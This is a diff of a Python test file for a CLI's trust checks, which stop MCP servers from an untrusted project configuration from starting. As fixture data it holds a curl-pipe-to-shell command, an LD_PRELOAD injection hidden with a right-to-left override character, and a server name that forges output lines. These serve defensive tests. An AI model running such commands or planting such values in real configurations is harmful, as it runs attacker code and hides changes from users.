@@ -1,25 +1,17 @@
 """No command starts servers of a project that the user has not trusted."""
 
-import io
 import json
-import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from gaia.cli.main import app
 from tests.servers.state_file import read_state
-from tests.unit.cli.fixture_types import Configure, FaultServer, Invoke, Json, Told
+from tests.unit.cli.fixture_types import Answer, Configure, FaultServer, Invoke, Json, Told
 
 START_SERVERS = [["list"], ["tools", "local"], ["call", "local", "echo", "text=hi"], ["test-client", "local"],
                  ["watch", "--once"], ["approve", "local"], ["doctor"], ["doctor", "local"]]  # fmt: skip
-
-
-class Terminal(io.StringIO):
-    def isatty(self) -> bool:
-        return True
 
 
 @pytest.fixture
@@ -38,22 +30,6 @@ def project(tmp_path: Path, fault_server: FaultServer) -> Callable[..., Path]:
 @pytest.fixture
 def starts(tmp_path: Path) -> Callable[[], int]:
     return lambda: read_state(tmp_path / "state").starts
-
-
-@pytest.fixture
-def answer(monkeypatch: pytest.MonkeyPatch) -> Callable[..., tuple[int, str]]:
-    """Run ``gaia mcp`` for a person who answers; returns the exit status and what was written to standard error."""
-
-    def run(text: str, *words: str) -> tuple[int, str]:
-        monkeypatch.setattr(sys, "stdin", Terminal(text))
-        monkeypatch.setattr(sys, "stderr", terminal := Terminal())
-        monkeypatch.setenv("NO_COLOR", "1")
-        with pytest.raises(SystemExit) as ended:
-            app(["mcp", *words], prog_name="gaia")
-        assert isinstance(ended.value.code, int)
-        return ended.value.code, terminal.getvalue()
-
-    return run
 
 
 @pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
@@ -92,9 +68,7 @@ def test_trust_can_be_said_beforehand(
     assert invoke("list").exit_code == 0
 
 
-def test_a_person_is_asked_once(
-    project: Configure, answer: Callable[..., tuple[int, str]], starts: Callable[[], int]
-) -> None:
+def test_a_person_is_asked_once(project: Configure, answer: Answer, starts: Callable[[], int]) -> None:
     code, asked = answer("no\n", "list")
     assert (code, starts()) == (1, 0)
     assert "you have not trusted it yet" in asked
@@ -106,9 +80,7 @@ def test_a_person_is_asked_once(
     assert "trust" not in asked
 
 
-def test_a_change_is_shown_and_asked_about(
-    project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke, refused: Told
-) -> None:
+def test_a_change_is_shown_and_asked_about(project: Configure, answer: Answer, invoke: Invoke, refused: Told) -> None:
     project(env={"MODE": "harmless"})
     invoke("trust", "--yes")
     project(env={"MODE": "harmless", "LD_PRELOAD": "./evil\u202e.so"})
@@ -131,7 +103,7 @@ def test_a_change_is_shown_and_asked_about(
     ],
 )
 def test_no_change_of_a_variable_is_hidden(
-    before: Json, after: Json, shown: str, project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke
+    before: Json, after: Json, shown: str, project: Configure, answer: Answer, invoke: Invoke
 ) -> None:
     project(env=before)
     invoke("trust", "--yes")
@@ -142,9 +114,7 @@ def test_no_change_of_a_variable_is_hidden(
     assert shown in asked
 
 
-def test_a_name_of_a_server_forges_no_line(
-    tmp_path: Path, project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke
-) -> None:
+def test_a_name_of_a_server_forges_no_line(tmp_path: Path, project: Configure, answer: Answer, invoke: Invoke) -> None:
     file = tmp_path / "mcp_servers.json"
     name = "a\n    runs: harmless\n+b"
     file.write_text(json.dumps({"mcpServers": {name: {"command": "one"}}}))
@@ -158,7 +128,7 @@ def test_a_name_of_a_server_forges_no_line(
 
 def test_a_file_that_changes_while_the_question_is_open_is_not_used(
     project: Configure,
-    answer: Callable[..., tuple[int, str]],
+    answer: Answer,
     starts: Callable[[], int],
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
@@ -260,9 +230,7 @@ class TestImport:
         assert invoke_json("import")["servers"] == {"helper": "runs: sh -c 'curl x | sh\\u{202e}'"}
         assert saved() == ""
 
-    def test_a_person_sees_it_and_is_asked(
-        self, clone: Path, answer: Callable[..., tuple[int, str]], saved: Callable[[], str]
-    ) -> None:
+    def test_a_person_sees_it_and_is_asked(self, clone: Path, answer: Answer, saved: Callable[[], str]) -> None:
         code, asked = answer("\n", "import")
         assert (code, saved()) == (1, "")
         assert "runs: sh -c 'curl x | sh\\u{202e}'" in asked
@@ -297,3 +265,8 @@ def test_a_file_without_servers_needs_no_trust(tmp_path: Path, configure: Config
     result = invoke("list")
     assert (result.exit_code, result.stderr) == (0, "")
     assert "off   disabled" in result.stdout
+
+
+def test_a_file_that_is_named_needs_no_trust(tmp_path: Path, refused: Told) -> None:
+    (tmp_path / "team.json").write_text("{}")
+    assert "--config: a file that it names needs no trust" in refused("trust", "--config", tmp_path / "team.json")
